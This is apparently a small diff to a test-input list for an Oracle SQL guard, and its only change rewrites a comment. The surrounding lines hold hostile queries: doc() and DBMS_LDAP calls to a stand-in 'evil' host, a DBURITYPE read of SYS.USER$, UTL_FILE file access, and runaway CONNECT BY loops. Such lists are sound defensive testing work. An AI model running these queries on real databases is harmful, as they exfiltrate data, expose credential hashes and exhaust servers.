@@ -77,7 +77,7 @@ SELECT * FROM XMLTABLE('doc("http://evil")')
 SELECT 1 FROM DUAL CONNECT BY 1 = 1
 SELECT LEVEL FROM DUAL CONNECT BY LEVEL > 0
 SELECT LEVEL FROM DUAL CONNECT BY LEVEL <= 100000000000
-# a second hand, written without a look at the lists
+# written after the lists, and counted when they first ran (docs/guard.md)
 SELECT UTL_FILE.FOPEN('a', 'b', 'c') FROM DUAL
 SELECT DBURITYPE('/SYS/USER$').GETCLOB() FROM DUAL
 SELECT DBMS_LDAP.INIT('evil', 389) FROM DUAL
